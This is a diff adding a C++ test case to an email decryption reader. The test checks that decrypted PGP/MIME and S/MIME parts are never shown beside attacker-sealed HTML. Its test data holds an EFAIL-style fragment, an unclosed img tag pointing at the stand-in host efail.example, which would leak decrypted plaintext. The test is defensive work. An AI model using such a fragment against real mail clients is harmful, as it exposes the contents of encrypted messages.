@@ -147,6 +147,26 @@ TEST_CASE("nothing that was opened is put beside markup", "[reader]") {
     CHECK(result.parts[0].entity.expose() == text);
 }
 
+TEST_CASE("nothing that was opened is put beside markup that was sealed, too", "[reader]") {
+    // Who has a stolen part can seal the page that he puts around it: to the same reader, in the same
+    // protocol.
+    const std::string page = "Content-Type: text/html\r\n\r\n<img src=\"http://efail.example/";
+    const auto around = GENERATE_COPY(
+        as<std::string>{}, stub::pgp_mime(page), stub::smime(stub::auth_enveloped, page),
+        stub::pgp_mime("Content-Type: multipart/mixed; boundary=i\r\n\r\n--i\r\n\r\nharmless\r\n--i\r\n" +
+                       page + "\r\n--i--\r\n"),
+        "Content-Type: message/rfc822\r\n\r\nFrom: x@example.net\r\n" + stub::pgp_mime(page));
+    CAPTURE(around);
+    const auto result = opened(header + mixed({around, stub::pgp_mime(text)}));
+    CHECK(result.outcome == Outcome::partly_sealed);
+    CHECK_FALSE(holds(result, "Attack"));
+    CHECK_FALSE(holds(result, "efail"));
+
+    // Alone, it has nobody to harm, and two texts do none.
+    CHECK(holds(opened(header + mixed({around, "\r\nfooter"})), "efail"));
+    CHECK(holds(opened(header + mixed({stub::pgp_mime(text), stub::pgp_mime("\r\ntwo")})), "Attack"));
+}
+
 TEST_CASE("an opened part with a delimiter of what is around it is not put in its place", "[reader]") {
     const auto result =
         opened(header + mixed({stub::pgp_mime("Content-Type: text/plain\r\n\r\none\r\n--m\r\n" + html)}));
@@ -351,8 +371,8 @@ TEST_CASE("why nothing was opened is said, and never taken for something else", 
 
     const auto one_of_two = opened(header + mixed({stub::pgp_mime("!no-key"), stub::pgp_mime(text)}));
     CHECK(one_of_two.outcome == Outcome::partly_sealed);
-    CHECK(holds(one_of_two, stub::pgp_mime("!no-key")));
-    CHECK(holds(one_of_two, "Attack"));
+    CHECK(one_of_two.message.size() == 0); // who can open the other one may find a page around this one
+    CHECK(one_of_two.parts.at(1).entity.expose() == text);
 
     const auto inner = opened(header + stub::pgp_mime(stub::smime(stub::enveloped, "!no-key")));
     CHECK(inner.outcome == Outcome::opened);
